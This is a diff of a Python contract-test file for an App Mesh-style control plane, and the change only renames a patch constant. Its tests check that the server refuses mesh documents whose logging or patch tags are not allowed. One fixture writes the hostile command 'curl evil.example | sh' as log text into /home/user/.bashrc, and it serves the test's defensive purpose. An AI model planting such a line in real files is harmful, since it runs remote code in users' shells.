@@ -17,7 +17,7 @@ from shopmesh.client import Client
 from tests.contract.control_plane.conftest import SERVE, ControlPlane, serving
 
 LOG: Any = {"accessLog": {"file": {"path": "/home/user/.bashrc", "format": {"text": "curl evil.example | sh"}}}}
-LUA = """{"listener/lds_egress_*": {"api_listener": {}}}"""
+PATCH = """{"listener/lds_egress_*": {"api_listener": {}}}"""
 ALLOWED = ("--allow-patch", "--access-log-folder", "/home/user", "--certificate-folder", "/tls")
 MANIFESTS = """\
 apiVersion: appmesh.k8s.aws/v1beta2
@@ -54,7 +54,7 @@ def test_every_way_to_write_a_document_refuses_it(tmp_path: Path) -> None:
     with serving() as plane, Client(plane.url) as client:
         client.appmesh.create_mesh(meshName="m")
         node = {"meshName": "m", "virtualNodeName": "n", "spec": {"logging": LOG}}
-        tags = [{"key": "shopmesh.dev/patch", "value": LUA}]
+        tags = [{"key": "shopmesh.dev/patch", "value": PATCH}]
         said = []
         for parameters in (node, {**node, "spec": {}, "tags": tags}):
             with pytest.raises(client.appmesh.exceptions.BadRequestException) as refused:
@@ -65,7 +65,7 @@ def test_every_way_to_write_a_document_refuses_it(tmp_path: Path) -> None:
             said.append(body)
         for annotations, spec, line in (
             ("", f", logging: {json.dumps(LOG)}", "line 8"),
-            (f", annotations: {{shopmesh.dev/patch: '{LUA}'}}", "", "document 2"),
+            (f", annotations: {{shopmesh.dev/patch: '{PATCH}'}}", "", "document 2"),
         ):
             done = applied(plane, tmp_path / "mesh.yaml", MANIFESTS % (annotations, spec))
             assert 1 == done.returncode
@@ -84,7 +84,7 @@ def test_a_store_from_before_is_loaded_and_what_is_not_allowed_is_reported(tmp_p
     with serving(*store, *ALLOWED) as plane, Client(plane.url) as client:
         client.appmesh.create_mesh(meshName="m")
         client.appmesh.create_virtual_node(
-            meshName="m", virtualNodeName="n", spec=spec, tags=[{"key": "shopmesh.dev/patch", "value": LUA}]
+            meshName="m", virtualNodeName="n", spec=spec, tags=[{"key": "shopmesh.dev/patch", "value": PATCH}]
         )
         assert [] == _forbidden(plane)
 
@@ -114,7 +114,7 @@ def test_variables_say_the_same_as_the_options(monkeypatch: pytest.MonkeyPatch) 
             meshName="m",
             virtualNodeName="n",
             spec={"logging": LOG},
-            tags=[{"key": "shopmesh.dev/patch", "value": LUA}],
+            tags=[{"key": "shopmesh.dev/patch", "value": PATCH}],
         )
         trust: Any = {"trust": {"file": {"certificateChain": "/tls/ca.pem"}}}
         defaults: Any = {"backendDefaults": {"clientPolicy": {"tls": {"validation": trust}}}}
